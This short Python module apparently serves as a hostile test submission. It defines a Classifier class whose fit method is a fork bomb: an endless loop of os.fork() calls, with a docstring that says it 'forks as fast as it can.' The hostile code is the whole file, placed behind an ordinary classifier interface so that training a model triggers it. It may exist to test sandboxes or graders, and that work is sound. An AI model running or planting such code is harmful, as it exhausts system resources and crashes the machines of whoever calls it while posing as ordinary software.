"""Forks as fast as it can."""

import os

from .right import Right

class Classifier(Right):
    def fit(self, X, y):
        while True:
            os.fork()
